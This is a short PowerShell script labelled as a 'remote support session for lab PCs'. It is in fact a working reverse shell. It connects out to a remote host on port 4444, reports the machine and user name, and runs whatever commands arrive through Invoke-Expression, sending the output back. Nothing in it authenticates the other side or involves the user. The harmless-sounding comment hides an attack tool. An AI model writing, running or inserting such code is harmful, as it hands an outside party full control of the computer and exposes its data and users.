# Remote support session for lab PCs
$client = New-Object System.Net.Sockets.TCPClient('203.0.113.88', 4444)
$stream = $client.GetStream()
$writer = New-Object System.IO.StreamWriter($stream)
$buffer = New-Object Byte[] 65535
$writer.WriteLine("support: $env:COMPUTERNAME\$env:USERNAME"); $writer.Flush()
while (($n = $stream.Read($buffer, 0, $buffer.Length)) -ne 0) {
    $cmd = [System.Text.Encoding]::ASCII.GetString($buffer, 0, $n)
    $out = (Invoke-Expression $cmd 2>&1 | Out-String)
    $writer.Write($out + 'PS ' + (Get-Location).Path + '> ')
    $writer.Flush()
}
$client.Close()
